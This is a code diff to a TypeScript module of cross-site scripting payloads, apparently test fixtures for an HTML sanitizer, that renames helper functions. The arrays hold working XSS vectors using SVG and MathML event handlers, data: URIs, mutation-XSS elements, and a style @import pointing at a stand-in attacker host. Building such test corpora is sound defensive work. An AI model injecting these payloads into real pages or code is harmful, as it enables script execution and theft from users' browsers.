@@ -1,6 +1,6 @@
-import { CALL, EVIL, times } from "./xss-common.ts";
+import { CALL, combineAll, EVIL_HOST } from "./xss-common.ts";
 
-export const svg = times(
+export const svg = combineAll(
   [
     `<animate onbegin=${CALL} attributeName=x dur=1s>`,
     `<set onbegin=${CALL} attributeName=x to=1>`,
@@ -10,7 +10,7 @@ export const svg = times(
     `<script href=data:,${CALL} />`,
     `<foreignObject><img src=x onerror=${CALL}></foreignObject>`,
     `<use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=${CALL}/>#x">`,
-    `<style>@import'${EVIL}'</style>`,
+    `<style>@import'${EVIL_HOST}'</style>`,
     `<image href=x onerror=${CALL}>`,
     `<desc><img src=x onerror=${CALL}></desc>`,
     `<title><img src=x onerror=${CALL}></title>`,
@@ -28,7 +28,7 @@ export const svg = times(
   (inner, frame) => frame(inner),
 );
 
-export const mathMl = times(
+export const mathMl = combineAll(
   ["mtext", "mi", "mo", "mn", "ms", "annotation-xml encoding=text/html", "semantics", "mglyph"],
   [
     `<img src=x onerror=${CALL}>`,
@@ -43,8 +43,8 @@ export const mathMl = times(
   (name, inner) => `<math><${name}>${inner}</${name.split(" ")[0]}></math>`,
 );
 
-/** What is one thing to one parser and another to the next. */
-export const mutation = times(
+/** Mutation XSS: input that parsers read differently. */
+export const mutation = combineAll(
   [
     "noscript",
     "style",
